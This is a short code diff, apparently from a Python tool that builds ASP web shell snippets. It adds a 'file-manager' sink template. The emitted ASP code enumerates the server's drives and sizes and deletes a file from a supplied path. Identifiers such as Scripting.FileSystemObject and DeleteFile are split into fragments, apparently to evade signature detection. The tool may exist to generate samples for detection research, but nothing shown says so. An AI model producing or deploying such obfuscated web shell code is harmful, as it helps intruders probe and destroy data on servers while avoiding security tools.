@@ -119,6 +119,16 @@ SINKS: dict[str, tuple[str, Sink]] = {
             "f.Close",
         ],
     ),
+    "file-manager": (
+        "asp.file-manager",
+        lambda e, tr: [
+            f'Set fs = CreateObject("{t("Scripting.File", "SystemObject")}")',
+            f"For Each d In fs.{t('Dri', 'ves')}",
+            f'  Response.Write d.{t("Drive", "Letter")} & " " & d.TotalSize & "|"',
+            "Next",
+            f"fs.{t('Delete', 'File')} Server.MapPath({e}), True",
+        ],
+    ),
     "stream-writer": (
         "asp.uploader",
         lambda e, tr: [
